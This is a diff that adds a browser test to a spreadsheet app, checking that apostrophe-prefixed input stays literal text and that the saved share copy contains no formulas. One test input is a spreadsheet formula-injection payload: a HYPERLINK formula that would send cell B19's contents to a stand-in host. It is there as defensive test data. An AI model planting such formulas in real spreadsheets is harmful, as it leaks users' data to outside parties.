@@ -574,6 +574,36 @@ describe("input lands where the user typed it", () => {
     expect(await content(fittings)).toBe("GV");
     expect(await content(material)).toBe(before);
   });
+
+  test("text typed behind an apostrophe stays text, \"=\" and all, and the saved share copy holds it as text: no formula", async () => {
+    await open(OFFICE_SAMPLE);
+    const link = '=HYPERLINK("http://example.invalid/?d="&B19,"x")';
+    await clickAt("H5");
+    await page.keyboard.type(`'${link}`);
+    await page.keyboard.press("Enter");
+    await settle();
+    expect((await cell("H5").textContent())?.trim()).toBe(link);
+    await clickAt("H6");
+    await page.keyboard.type("'=1+1");
+    await page.keyboard.press("Enter");
+    await settle();
+    expect((await cell("H6").textContent())?.trim()).toBe("=1+1");
+    const [download] = await Promise.all([page.waitForEvent("download"), page.click('[data-role="save-share-copy"]')]);
+    const saved = path.join(RESULTS, `text-${download.suggestedFilename()}`);
+    await download.saveAs(saved);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load((await readFile(saved)) as unknown as ArrayBuffer);
+    let formulas = 0;
+    const texts: string[] = [];
+    wb.worksheets[0].eachRow((row) =>
+      row.eachCell((c) => {
+        if (c.formula) formulas++;
+        if (typeof c.value === "string" && c.value.startsWith("=")) texts.push(c.value);
+      }),
+    );
+    expect(formulas).toBe(0);
+    expect(texts.sort()).toEqual([link, "=1+1"].sort());
+  });
 });
 
 describe("what the page loads", () => {
